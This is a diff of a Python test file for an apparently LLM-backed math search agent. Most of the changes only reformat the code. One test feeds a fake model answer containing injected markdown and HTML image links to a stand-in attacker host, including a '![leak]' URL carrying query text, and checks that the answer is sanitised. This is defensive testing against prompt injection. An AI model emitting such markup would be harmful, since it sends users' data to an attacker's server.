@@ -55,6 +55,7 @@ def test_an_answer_keeps_its_citations_and_math_but_loses_links():
 
 # --- end to end over a real index ---------------------------------------------------------------------------
 
+
 @pytest.fixture(scope="module")
 def hostile_index(tiny_index):
     return tiny_index  # the tiny index the tests share (tests/conftest.py) holds the hostile document
@@ -77,8 +78,10 @@ def test_an_llm_answer_with_injected_markup_is_sanitised(hostile_index):
     def model(request):
         if not request.tool_results:
             return ToolCalls([("structure_search", {"formula": "\\sqrt{ab}=\\sqrt{a}\\sqrt{b}", "k": 5})])
-        return Text(f"It holds for $a, b \\geq 0$ [{HOSTILE_ID}]. ![leak](http://{EVIL}/q?=When+is) "
-                    f"<img src=http://{EVIL}/y.png> [more](http://{EVIL}/more)")
+        return Text(
+            f"It holds for $a, b \\geq 0$ [{HOSTILE_ID}]. ![leak](http://{EVIL}/q?=When+is) "
+            f"<img src=http://{EVIL}/y.png> [more](http://{EVIL}/more)"
+        )
 
     with FakeOpenAI(model) as server:
         config = LLMConfig(api_key="test-key", base_url=server.base_url, model="fake-gpt", timeout=10, max_retries=0)
@@ -104,13 +107,21 @@ def test_get_document_puts_id_formulas_and_text_inside_the_envelope(hostile_inde
 
 
 def test_snippets_are_the_same_whatever_the_hash_seed(hostile_index):
-    script = ("import sys, json; from mathscout.agent import MathScout; "
-              f"hits = MathScout(sys.argv[1], use_llm=False).search('$\\\\sqrt{{ab}}$ theorem real', mode='bm25', k=10); "
-              "print(json.dumps([[h.doc_id, h.snippet] for h in hits]))")
+    script = (
+        "import sys, json; from mathscout.agent import MathScout; "
+        "hits = MathScout(sys.argv[1], use_llm=False).search('$\\\\sqrt{ab}$ theorem real', mode='bm25', k=10); "
+        "print(json.dumps([[h.doc_id, h.snippet] for h in hits]))"
+    )
     outputs = set()
     for seed in ("1", "2", "3"):
-        result = subprocess.run([sys.executable, "-c", script, str(hostile_index)], capture_output=True, text=True,
-                                cwd=REPO, env={**__import__("os").environ, "PYTHONHASHSEED": seed}, timeout=300)
+        result = subprocess.run(
+            [sys.executable, "-c", script, str(hostile_index)],
+            capture_output=True,
+            text=True,
+            cwd=REPO,
+            env={**__import__("os").environ, "PYTHONHASHSEED": seed},
+            timeout=300,
+        )
         assert result.returncode == 0, result.stderr[-2000:]
         outputs.add(result.stdout.strip().splitlines()[-1])
     assert len(outputs) == 1
